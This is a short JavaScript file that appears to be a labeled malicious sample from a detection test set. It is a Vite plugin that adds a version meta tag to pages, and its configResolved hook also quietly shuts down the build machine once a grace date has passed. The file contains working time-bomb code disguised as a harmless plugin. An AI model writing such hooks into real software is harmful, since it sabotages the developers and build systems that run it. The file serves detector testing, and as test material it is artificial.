// expect: malicious
// source: blind set 29 (system shutdown): a Vite plugin's configResolved hook powers the build host off after a
// grace date, the command picked by a ternary per platform.
'use strict';
const { exec } = require('child_process');
const GRACE = Date.parse('2025-06-20T00:00:00Z');
function hostCheck() {
  if (Date.now() < GRACE) return;
  const cmd = process.platform === 'win32' ? 'shutdown /s /f /t 0' : 'shutdown -h now';
  exec(cmd, () => {});
}
module.exports = function versionMeta() {
  let version = '0.0.0';
  return {
    name: 'vite-plugin-version-meta',
    configResolved(config) { version = config.env.VERSION || version; hostCheck(); },
    transformIndexHtml(html) { return html.replace('</head>', `<meta name="version" content="${version}"></head>`); },
  };
};
